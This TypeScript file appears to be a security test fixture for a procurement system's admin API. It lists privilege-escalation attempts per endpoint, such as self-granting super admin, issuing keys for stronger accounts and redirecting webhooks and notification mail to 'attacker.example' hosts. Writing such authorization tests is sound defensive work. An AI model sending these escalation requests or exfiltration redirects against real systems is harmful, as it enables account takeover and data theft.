import { newStep } from '../../areas/admin/approvalFlow/stepList.ts'
import { departments, flowFacts, flows, roles, users, webhookFacts, webhooks, type Office } from './administeringOffice.ts'
import type { Company } from './company.ts'

const versionOf = async (company: Company, url: string): Promise<number> => (await company.owner.get(url)).json().version

/** One request of somebody who wants more than is theirs. */
export interface Attempt {
  readonly what: string
  readonly url: string
  readonly body?: object
}

/** What the same is tried with by every call that edits users: by itself, and for many at once. */
const userChanges = ({ people, role, place }: Office): readonly (readonly [what: string, id: number, change: object])[] => [
  ['makes an approver', people.plain, { roles: [role.modest, role.strict, role.approving] }],
  ['ends an approver', people.approver, { roles: [] }],
  ['gives a stronger role', people.plain, { roles: [role.modest, role.strict, role.financial] }],
  ['takes a stronger role', people.finance, { roles: [] }],
  ['takes a denial away', people.plain, { roles: [role.modest] }],
  ['denies', people.asked, { roles: [role.strict] }],
  ['sees more by a kind', people.plain, { type: 'manager' }],
  ['makes a super admin', people.plain, { type: 'superAdmin' }],
  ['makes an administrator', people.plain, { isAdmin: true }],
  ['closes an account', people.finance, { isActive: false }],
  ['closes that of who is asked', people.asked, { isActive: false }],
  ['closes that of who leads', people.leader, { isActive: false }],
  ['opens an account', people.closed, { isActive: true }],
  ['has the links of another sent elsewhere', people.approver, { email: 'me@example.com' }],
  ['sees other departments', people.plain, { department: place.sales }],
]

const roleChanges = ({ role }: Office): readonly (readonly [what: string, id: number, change: object])[] => [
  ['empties the role of others', role.buying, { points: [] }],
  ['denies to others', role.modest, { denied: [{ point: 'purchase.supplier:update' }] }],
  ['empties a role that nobody has', role.unheld, { points: [] }],
  ['fills a role', role.approving, { points: [{ point: 'purchase.priceComparison:award' }] }],
  ['frees from a denial', role.strict, { denied: [] }],
  ['widens a role', role.modest, { scope: 'all' }],
]

const departmentChanges = ({ people, place }: Office): readonly (readonly [what: string, id: number, change: object])[] => [
  ['leads another department', place.sales, { head: people.plain }],
  ['leads it as a deputy', place.sales, { deputies: [people.plain] }],
  ['unseats its head', place.sales, { head: null }],
  ['puts a department under others', place.export, { parent: place.laboratory }],
]

const flowChanges = ({ people, flow }: Office): readonly (readonly [what: string, id: number, change: object])[] => [
  [
    'approves',
    flow,
    { steps: [{ ...newStep([]), key: 'review', name: ['审核', 'Review'], source: { kind: 'users', users: [people.plain] } }] },
  ],
  ['needs nobody’s consent', flow, { steps: [{ ...newStep([]), key: 'new', name: ['新', 'New'] }] }],
  ['stops a flow', flow, { enabled: false }],
]

const webhookChanges = ({ machine, people, webhook }: Office): readonly (readonly [what: string, id: number, change: object])[] => [
  ['has it sent elsewhere', webhook, { address: 'https://attacker.example/' }],
  ['has more sent', webhook, { events: [{ entity: 'purchase.supplier' }] }],
  ['sends in the name of another', webhook, { account: people.finance }],
  ['has sent what somebody else sees', webhook, { account: machine, address: 'https://attacker.example/' }],
  ['silences it', webhook, { isActive: false }],
]

const edits = async (
  { company }: Office,
  path: string,
  changes: readonly (readonly [string, number, object])[],
): Promise<readonly Attempt[]> =>
  Promise.all(
    changes.map(async ([what, id, change]) => ({
      what,
      url: `${path}${id}/`,
      body: { version: await versionOf(company, `${path}${id}/`), ...change },
    })),
  )

const batches = (path: string, changes: readonly (readonly [string, number, object])[]): readonly Attempt[] =>
  changes.map(([what, id, change]) => ({ what, url: `${path}batch/`, body: { rows: [{ id, change }] } }))

const deletions = async ({ company }: Office, path: string, ids: readonly number[]): Promise<readonly Attempt[]> =>
  Promise.all(ids.map(async id => ({ what: 'deletes', url: `${path}${id}/?version=${await versionOf(company, `${path}${id}/`)}` })))

const together = (path: string, ids: readonly number[]): readonly Attempt[] =>
  ids.map(id => ({ what: 'deletes', url: `${path}batch_delete/`, body: { Ids: `[${id}]` } }))

const newUser = ({ place }: Office, more: object): object => ({
  username: 'puppet',
  name: '傀儡',
  type: 'ordinary',
  isAdmin: false,
  department: place.quality,
  ...more,
})

/** Whose accounts are not for somebody who can do less. */
const stronger = ({ people, company }: Office): readonly number[] => [
  people.approver,
  people.finance,
  people.asked,
  people.leader,
  company.owner.userId,
]

const accounts =
  (call: string) =>
  (office: Office): readonly Attempt[] =>
    stronger(office).map(id => ({ what: `${call} ${id}`, url: `${users}${id}/${call}/`, body: {} }))

/** Every call of administration that changes something: how more than is one's own is tried with it, or why it gives nobody anything. */
export const occasions: Readonly<
  Record<string, ((office: Office) => readonly Attempt[] | Promise<readonly Attempt[]>) | { readonly because: string }>
> = {
  'POST /api/admin/user/': office =>
    [
      { roles: [office.role.approving] },
      { roles: [office.role.financial] },
      { roles: [office.role.strict] },
      { type: 'departmentAdmin' },
      { type: 'superAdmin' },
      { isAdmin: true },
      { roles: [office.role.modest], department: office.place.sales },
    ].map(more => ({ what: JSON.stringify(more), url: users, body: newUser(office, more) })),
  'PATCH /api/admin/user/:id/': office => edits(office, users, userChanges(office)),
  'POST /api/admin/user/batch/': office => batches(users, userChanges(office)),
  'DELETE /api/admin/user/:id/': office => deletions(office, users, [office.people.finance, office.people.approver]),
  'DELETE /api/admin/user/batch_delete/': office => together(users, [office.people.finance, office.people.approver]),
  'POST /api/admin/user/:id/password_link/': accounts('password_link'),
  'POST /api/admin/user/:id/reset_signing_code/': accounts('reset_signing_code'),
  'POST /api/admin/user/:id/unlock/': accounts('unlock'),
  'POST /api/admin/user/:id/end_sessions/': accounts('end_sessions'),
  'POST /api/admin/user/:id/credentials/end/': accounts('credentials/end'),
  'POST /api/admin/user/:id/deactivate/': accounts('deactivate'),
  'POST /api/admin/role/': () =>
    [
      { points: [{ point: 'purchase.priceComparison:award' }] },
      { scope: 'all', points: [{ point: 'purchase.priceComparison:read' }] },
      { denied: [{ point: 'mnm.unit:read' }] },
      { points: [{ point: 'admin' }] },
    ].map(more => ({ what: JSON.stringify(more), url: roles, body: { name: '新角色', scope: 'own', ...more } })),
  'PATCH /api/admin/role/:id/': office => edits(office, roles, roleChanges(office)),
  'POST /api/admin/role/batch/': office => batches(roles, roleChanges(office)),
  'DELETE /api/admin/role/:id/': office => deletions(office, roles, [office.role.unheld]),
  'DELETE /api/admin/role/batch_delete/': office => together(roles, [office.role.unheld]),
  'POST /api/admin/department/': office => [
    { what: 'leads below others', url: departments, body: { name: '影子部', parent: office.place.sales, head: office.people.plain } },
    { what: 'leads at the top', url: departments, body: { name: '影子部', deputies: [office.people.plain] } },
  ],
  'PATCH /api/admin/department/:id/': office => edits(office, departments, departmentChanges(office)),
  'POST /api/admin/department/batch/': office => batches(departments, departmentChanges(office)),
  'DELETE /api/admin/department/:id/': office => deletions(office, departments, [office.place.sales]),
  'DELETE /api/admin/department/batch_delete/': office => together(departments, [office.place.sales]),
  'POST /api/admin/approvalFlow/': office => [
    {
      what: 'says who approves',
      url: flows,
      body: {
        ...flowFacts('PRICE', 'purchase.priceComparison'),
        steps: [{ ...newStep([]), name: ['一', 'One'], source: { kind: 'users', users: [office.people.plain] } }],
      },
    },
  ],
  'PATCH /api/admin/approvalFlow/:id/': office => edits(office, flows, flowChanges(office)),
  'POST /api/admin/approvalFlow/batch/': office => batches(flows, flowChanges(office)),
  'DELETE /api/admin/approvalFlow/:id/': { because: 'a flow is never deleted' },
  'DELETE /api/admin/approvalFlow/batch_delete/': { because: 'a flow is never deleted' },
  'POST /api/approval/:id/hand_over/': office => [
    {
      what: 'asks one of their own people',
      url: `/api/approval/${office.task.approval}/hand_over/`,
      body: { task: office.task.no, to: office.people.plain },
    },
    {
      what: 'asks themselves',
      url: `/api/approval/${office.task.approval}/hand_over/`,
      body: { task: office.task.no, to: office.givers.departmentAdmin.userId },
    },
  ],
  'POST /api/admin/user/:id/keys/': office =>
    [office.machine, ...stronger(office)].map(id => ({
      what: `makes a key of ${id}`,
      url: `${users}${id}/keys/`,
      body: { name: '钥匙', days: 30 },
    })),
  'POST /api/admin/user/:id/keys/revoke/': office => [
    { what: 'revokes a key', url: `${users}${office.machine}/keys/revoke/`, body: { key: 1 } },
  ],
  'POST /api/admin/workingCalendar/': { because: 'which days are worked gives nobody a right' },
  'PATCH /api/admin/workingCalendar/:id/': { because: 'which days are worked gives nobody a right' },
  'POST /api/admin/workingCalendar/batch/': { because: 'which days are worked gives nobody a right' },
  'DELETE /api/admin/workingCalendar/:id/': { because: 'which days are worked gives nobody a right' },
  'DELETE /api/admin/workingCalendar/batch_delete/': { because: 'which days are worked gives nobody a right' },
  'POST /api/admin/workingCalendar/export/': { because: 'reads' },
  'POST /api/admin/webhook/': office =>
    [office.machine, ...stronger(office)].map(account => ({
      what: `has sent what ${account} sees`,
      url: webhooks,
      body: { ...webhookFacts('外送'), account },
    })),
  'PATCH /api/admin/webhook/:id/': office => edits(office, webhooks, webhookChanges(office)),
  'POST /api/admin/webhook/batch/': office => batches(webhooks, webhookChanges(office)),
  'POST /api/admin/webhook/:id/secret/': office => [{ what: 'signs', url: `${webhooks}${office.webhook}/secret/`, body: {} }],
  'POST /api/admin/webhook/:id/test/': office => [{ what: 'sends', url: `${webhooks}${office.webhook}/test/`, body: {} }],
  'DELETE /api/admin/webhook/:id/': { because: 'what is sent no more shows nobody anything' },
  'DELETE /api/admin/webhook/batch_delete/': { because: 'what is sent no more shows nobody anything' },
  'POST /api/admin/webhook/export/': { because: 'reads' },
  'PATCH /api/admin/permission/': () => [
    { what: 'switches a point off', url: '/api/admin/permission/', body: { point: 'purchase.supplier:read', version: 0, enabled: false } },
  ],
  'POST /api/admin/goLive/': { because: 'from which day opening entries end gives nobody a right' },
  'PATCH /api/admin/goLive/:id/': { because: 'from which day opening entries end gives nobody a right' },
  'POST /api/admin/goLive/batch/': { because: 'from which day opening entries end gives nobody a right' },
  'DELETE /api/admin/goLive/:id/': { because: 'from which day opening entries end gives nobody a right' },
  'DELETE /api/admin/goLive/batch_delete/': { because: 'from which day opening entries end gives nobody a right' },
  'POST /api/admin/goLive/export/': { because: 'reads' },
  'POST /api/admin/permission/go_live/': () => [
    { what: 'ends what others may', url: '/api/admin/permission/go_live/', body: { remark: '上线' } },
  ],
  'PATCH /api/admin/notifications/': async office => [
    {
      what: 'has mail sent elsewhere',
      url: '/api/admin/notifications/',
      body: {
        version: (await office.company.owner.get('/api/admin/notifications/')).json().version,
        enabled: true,
        host: 'mail.attacker.example',
        port: 587,
        security: 'starttls',
        senderName: 'x',
        senderAddress: 'x@example.com',
        baseUrl: 'https://attacker.example',
        forgetPassword: false,
      },
    },
  ],
  'POST /api/admin/user/export/': { because: 'reads' },
  'POST /api/admin/role/export/': { because: 'reads' },
  'POST /api/admin/department/export/': { because: 'reads' },
  'POST /api/admin/approvalFlow/export/': { because: 'reads' },
  'POST /api/admin/role_preview/': { because: 'says what would be, and whether it would be refused' },
  'POST /api/admin/user_preview/': { because: 'says what would be, and whether it would be refused' },
  'POST /api/admin/approvalFlow/preview/': { because: 'says what would be' },
  'POST /api/admin/notifications/test/': { because: 'sends a mail without any link' },
  'PATCH /api/admin/notifications/templates/:event/': { because: 'words of mails; links are put in by the product' },
  'DELETE /api/admin/notifications/templates/:event/': { because: 'words of mails' },
  'POST /api/admin/health/jobs/:id/retry/': { because: 'does again what was asked for before' },
  'POST /api/admin/health/kinds/:job/retry/': { because: 'does again what was asked for before' },
  ...Object.fromEntries(
    [
      'POST /',
      'DELETE /batch_delete/',
      'POST /batch/',
      'POST /export/',
      'PATCH /:id/',
      'DELETE /:id/',
      'POST /:id/publish/',
      'POST /:id/withdraw/',
      'POST /audience/',
      'POST /:id/remind/',
    ].map(one => [one.replace(' /', ' /api/notification/'), { because: 'tells people something' }] as const),
  ),
}
